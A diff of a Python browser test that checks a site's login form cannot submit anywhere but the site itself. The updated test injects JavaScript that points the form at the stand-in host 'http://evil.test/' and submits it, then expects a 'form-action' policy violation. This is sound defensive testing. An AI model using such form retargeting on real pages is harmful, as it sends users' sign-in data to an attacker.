@@ -87,11 +87,10 @@ def test_page_works_by_keyboard_alone(site_of_ada):
 
 def test_log_in_form_redirects_to_own_pages_only(site_of_ada):
     page = open_page(site_of_ada, address(site_of_ada))
-    sign_in(page)
-    page.locator("form").evaluate("form => form.action = 'http://evil.test/'")
+    elsewhere = "form => { form.action = 'http://evil.test/'; form.submit(); }"
 
     with page.expect_console_message(lambda message: "form-action" in message.text):
-        page.get_by_role("button", name="Allow").evaluate("button => button.click()")
+        page.locator("form").evaluate(elsewhere)
 
     assert any("form-action" in said for said in site_of_ada.complaints)
     site_of_ada.complaints.clear()
